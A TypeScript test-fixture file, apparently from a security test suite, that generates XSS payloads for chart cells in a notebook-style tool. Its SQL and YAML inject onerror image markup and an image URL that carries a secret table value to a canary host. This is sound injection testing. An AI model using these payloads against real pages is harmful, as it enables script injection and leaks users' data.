import type { Addresses, Payload } from '../payload.ts';
import { act, writtenInPage } from './shownMarkup.ts';

/** In SQL: markup that asks the canary for the secret. */
const loading = ({ http }: Addresses) => `'<img src="${http}?' || markeret || '">'`;

/** What is written as text in YAML, where it would act if a page took it for markup. */
const acting = (at: Addresses) => JSON.stringify(`"><img src=data:x onerror="${act(at)}">`);

type ChartCell = {
	readonly id: string;
	readonly channel: string;
	/** The table that is drawn, of the runner's `hemmelig`; `HERE` stands for a hostile value. */
	readonly sql: string;
	/** The chart's lines but its table; `HERE` stands for a hostile text. */
	readonly yaml: string;
};

/** A chart cell over a table of its own: both of them an author's. */
const chartCell = ({ id, channel, sql, yaml }: ChartCell): Payload => {
	const name = id.replaceAll('-', '_');
	return {
		id,
		channel,
		realm: 'chart',
		cells: (at) =>
			`\`\`\`sql ${name}\n${sql.replaceAll('HERE', () => loading(at))}\n\`\`\`\n\n` +
			`\`\`\`chart\ntable: ${name}\n${yaml.replaceAll('HERE', () => acting(at))}\n\`\`\`\n`,
		control: writtenInPage(({ http }) => `<img src="${http}?SECRET">`),
		press: 'figure circle, figure rect, figure path'
	};
};

const category = 'SELECT HERE AS navn, 3 AS antal FROM hemmelig';
const flows = `SELECT HERE AS fra, '0101' AS til, 4 AS antal FROM hemmelig
UNION ALL SELECT '0159', '0101', 9 UNION ALL SELECT '0101', '0159', 2`;
const areas = `SELECT HERE AS kode, 5 AS til_, 4 AS fra_, 100 AS folk FROM hemmelig UNION ALL SELECT '0101', 7, 3, 200`;
const inFlows = 'from: fra\nto: til\ncount: antal';

/** What chart cells draw: an author's columns, values, codes, titles and outlines. */
export const chartCells: readonly Payload[] = [
	chartCell({
		id: 'cc-category',
		channel: 'chart cell value',
		sql: category,
		yaml: 'type: bar\nx: navn\nmeasure: sum\nof: antal'
	}),
	chartCell({
		id: 'cc-titles',
		channel: 'chart cell text',
		sql: category,
		yaml: 'type: bar\nx: navn\ntitle: HERE\nsubtitle: HERE\nsource: HERE'
	}),
	chartCell({
		id: 'cc-column',
		channel: 'chart cell column',
		sql: `SELECT 3 AS "<img src=data:x onerror=alert(1)>" FROM hemmelig`,
		yaml: 'type: bar\nx: "<img src=data:x onerror=alert(1)>"\ntitle: HERE'
	}),
	chartCell({
		id: 'cc-color-facet',
		channel: 'chart cell value',
		sql: `SELECT HERE AS navn, HERE AS farve, HERE AS felt, 3 AS antal FROM hemmelig`,
		yaml: 'type: bar\nx: navn\ncolor: farve\nfacet: felt'
	}),
	chartCell({
		id: 'cc-heatmap',
		channel: 'chart cell value',
		sql: `SELECT HERE AS a, HERE AS b FROM hemmelig UNION ALL SELECT 'x', 'y'`,
		yaml: 'type: heatmap\nx: a\ny: b'
	}),
	chartCell({
		id: 'cc-matrix',
		channel: 'chart cell code',
		sql: flows,
		yaml: `type: od-matrix\n${inFlows}\ntitle: HERE`
	}),
	chartCell({
		id: 'cc-flow-map',
		channel: 'chart cell code',
		sql: flows,
		yaml: `type: flow-map\n${inFlows}\nsource: HERE`
	}),
	chartCell({
		id: 'cc-hub',
		channel: 'chart cell code',
		sql: flows,
		yaml: `type: hub\n${inFlows}\ncenter: HERE`
	}),
	chartCell({
		id: 'cc-partners',
		channel: 'chart cell code',
		sql: flows,
		yaml: `type: partners\n${inFlows}\ncenter: '0101'\nsubtitle: HERE`
	}),
	chartCell({
		id: 'cc-count-map',
		channel: 'chart cell code',
		sql: areas,
		yaml: 'type: count-map\narea: kode\nmeasure: sum\nof: til_\ntitle: HERE'
	}),
	{
		...chartCell({
			id: 'cc-boundaries',
			channel: 'chart cell outline',
			sql: `SELECT HERE AS kode, 5 AS antal FROM hemmelig`,
			yaml: 'type: count-map\narea: kode\nmeasure: sum\nof: antal\nboundaries:\n  table: cc_outlines\n  key: kode\n  geometry: omrids'
		}),
		cells: (at) =>
			`\`\`\`sql cc_outlines\nSELECT ${loading(at)} AS kode, '{"type":"Polygon","coordinates":[[["url(${at.http}",1],[9,1],[9,9],[0,0]]],"href":"${at.http}"}' AS omrids FROM hemmelig\nUNION ALL SELECT 'A', '{"type":"Polygon","coordinates":[[[0,0],[9,1],[9,9],[0,0]]]}'\n\`\`\`\n\n` +
			`\`\`\`sql cc_boundaries\nSELECT ${loading(at)} AS kode, 5 AS antal FROM hemmelig UNION ALL SELECT 'A', 2\n\`\`\`\n\n` +
			`\`\`\`chart\ntype: count-map\ntable: cc_boundaries\narea: kode\nmeasure: sum\nof: antal\nboundaries:\n  table: cc_outlines\n  key: kode\n  geometry: omrids\n\`\`\`\n`
	},
	chartCell({
		id: 'cc-picks',
		channel: 'chart cell text',
		sql: flows,
		yaml: `type: od-matrix\n${inFlows}\npicks: HERE`
	})
];
